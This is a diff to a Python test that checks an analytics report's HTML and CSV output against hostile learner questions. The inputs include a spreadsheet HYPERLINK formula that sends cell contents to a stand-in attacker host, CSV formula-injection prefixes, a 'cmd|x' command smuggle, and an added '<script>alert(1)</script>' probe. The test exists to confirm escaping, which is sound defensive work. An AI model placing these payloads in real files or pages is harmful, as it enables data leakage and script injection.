@@ -234,14 +234,17 @@ def test_hostile_learner_text_neither_breaks_the_report_nor_arms_the_csv(
     store.save_playlist("eve", pilot.playlist("cut $costs$ with \\frac{a}{b} sheets"))
     formula = '=HYPERLINK("http://attacker.example/?q="&A1,"Click for your grade")'
     hostile = [formula, "+1+1 what is a pivot?", "-2+3 kubernetes pods", "@SUM(A1:A9) deploy a helm chart", "\tcmd|x"]
-    for n, question in enumerate([*hostile, "\x1b[31mred\x07 kubernetes\x00 operators"]):
+    script = "<script>alert(1)</script> kubernetes ingress controllers"
+    for n, question in enumerate([*hostile, script, "\x1b[31mred\x07 kubernetes\x00 operators"]):
         store.log_answer(pilot.ask(question), "eve", message_id=f"m-hostile-{n}")
     report = build_report(store, pilot)
     assert goal in [g.goal for g in report.demand.goals]
 
     html = write_html(report, tmp / "insights.html").read_text(encoding="utf-8")  # mathtext used to raise here
     assert "save $$ with Excel budgets" in html  # shown literally in the goals chart
-    assert "<script" not in html
+    assert "<script" not in html  # autoescaping is on in the templates
+    if any(script in c.examples for c in report.content_gaps.clusters):
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
 
     files = write_csv(report, tmp / "csv")
     cells = [
